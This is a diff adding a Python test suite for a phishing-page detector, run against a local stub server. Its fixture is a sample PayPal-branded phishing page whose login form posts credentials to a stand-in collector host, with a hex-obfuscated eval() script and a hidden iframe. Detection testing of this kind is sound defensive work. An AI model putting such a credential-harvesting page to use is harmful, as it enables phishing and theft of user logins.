@@ -0,0 +1,142 @@
+import sys
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from content_analysis import analyze_content, analyze_html
+
+# 🧪 فحص تحليل محتوى الصفحة ضد خادم HTTP محلي وهمي (بدون إنترنت)
+# الاستخدام: python test_content.py
+
+# 🏠 الخادم الوهمي على loopback، لذا نسمح بعنوانه صراحةً (وإلا ستحجبه حماية SSRF)
+STUB_ADDRESS = "127.0.0.1"
+ALLOW_STUB = {"allowed_addresses": (STUB_ADDRESS,)}
+
+# 🎣 صفحة تشبه أدوات التصيد: كل فحص يجب أن يجد شيئًا
+PHISHING_KIT_PAGE = r"""<!DOCTYPE html>
+<html><head>
+  <title>PayPal: Log in to your account</title>
+  <meta http-equiv="refresh" content="30; url=https://www.paypal.com/">
+</head><body>
+  <img src="assets/paypal_logo.png" alt="logo">
+  <form action="https://collector.example.net/gate.php" method="post">
+    <input type="email" name="login_email"><input type="password" name="login_password">
+  </form>
+  <script>var _0xa=["\x68\x74\x74\x70\x73\x3a\x2f\x2f\x63\x6f\x6c\x6c\x65\x63\x74\x6f\x72\x2e\x65\x78\x61\x6d\x70\x6c\x65"];eval(_0xa[0])</script>
+  <iframe src="https://tracker.example.org/p" style="display:none"></iframe>
+</body></html>"""
+
+# ✅ صفحة عادية على نطاقها: لا شيء يُبلَّغ عنه
+CLEAN_PAGE = """<html><head><title>Sign in</title></head><body>
+  <form action="/session" method="post"><input type="password" name="password"></form>
+  <script>document.querySelector("form").addEventListener("submit", () => {})</script>
+  <iframe src="/embedded/help" width="400" height="300"></iframe>
+</body></html>"""
+
+STUB_PAGES = {
+    "/kit": ("text/html; charset=utf-8", PHISHING_KIT_PAGE),
+    "/clean": ("text/html", CLEAN_PAGE),
+    "/data.json": ("application/json", "{}"),
+    "/huge": ("text/html", "<title>PayPal</title><input type=password>" + " " * (2 * 1024 * 1024)),
+}
+
+# 🎭 معالج الخادم الوهمي
+class StubHandler(BaseHTTPRequestHandler):
+    def log_message(self, format, *args):
+        pass
+
+    def do_HEAD(self):
+        self.respond(send_body=False)
+
+    def do_GET(self):
+        self.respond(send_body=True)
+
+    def respond(self, send_body):
+        if self.path == "/short":
+            self.send_response(301)
+            self.send_header("Location", "/kit")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+            return
+        if self.path not in STUB_PAGES:
+            self.send_response(404)
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+            return
+
+        content_type, page = STUB_PAGES[self.path]
+        body = page.encode("utf-8")
+        self.send_response(200)
+        self.send_header("Content-Type", content_type)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        if send_body:
+            try:
+                self.wfile.write(body)
+            except OSError:
+                pass
+
+# ✅ الفحوصات
+def check_phishing_kit_findings(base):
+    result = analyze_content(f"{base}/short", **ALLOW_STUB)
+    assert result["error"] is None and result["url"] == f"{base}/kit", result
+    found_checks = {finding["check"] for finding in result["findings"]}
+    assert found_checks == set(result["checks"]), result["findings"]
+
+def check_clean_page_has_no_findings(base):
+    result = analyze_content(f"{base}/clean", **ALLOW_STUB)
+    assert result["error"] is None and result["findings"] == [], result
+
+def check_non_html_is_skipped(base):
+    result = analyze_content(f"{base}/data.json", **ALLOW_STUB)
+    assert result["error"] == "Page is not HTML (application/json)", result
+
+def check_missing_page(base):
+    result = analyze_content(f"{base}/missing", **ALLOW_STUB)
+    assert result["error"] == "Page returned HTTP 404", result
+
+def check_body_size_limit(base):
+    result = analyze_content(f"{base}/huge", max_bytes=1024, **ALLOW_STUB)
+    assert result["truncated"] and result["error"] is None, result
+
+def check_private_addresses_blocked(base):
+    result = analyze_content(f"{base}/kit")
+    assert result["error"] and "private or reserved" in result["error"], result
+
+def check_brand_on_its_own_domain(base):
+    assert analyze_html("https://www.paypal.com/signin", PHISHING_KIT_PAGE.replace("https://collector.example.net/gate.php", "/gate")) == [
+        {"check": "obfuscated_script", "description": "Inline script looks obfuscated (eval(), escaped characters)"},
+        {"check": "iframe", "description": "Hidden iframe loads https://tracker.example.org/p"},
+    ]
+
+def check_brand_without_login_form(base):
+    assert analyze_html("https://news.example.com/", "<title>PayPal shares rise</title>") == []
+
+CHECKS = [
+    check_phishing_kit_findings, check_clean_page_has_no_findings, check_non_html_is_skipped, check_missing_page,
+    check_body_size_limit, check_private_addresses_blocked, check_brand_on_its_own_domain, check_brand_without_login_form,
+]
+
+# 🚀 تشغيل الخادم الوهمي وكل الفحوصات
+def run_checks():
+    server = ThreadingHTTPServer((STUB_ADDRESS, 0), StubHandler)
+    server.daemon_threads = True
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    base = f"http://{STUB_ADDRESS}:{server.server_port}"
+
+    failures = 0
+    try:
+        for check in CHECKS:
+            try:
+                check(base)
+                print(f"✅ {check.__name__}")
+            except AssertionError as e:
+                failures += 1
+                print(f"❌ {check.__name__}: {e}")
+    finally:
+        server.shutdown()
+        server.server_close()
+
+    print(f"{len(CHECKS) - failures}/{len(CHECKS)} content checks passed")
+    return failures
+
+if __name__ == "__main__":
+    sys.exit(1 if run_checks() else 0)
\ No newline at end of file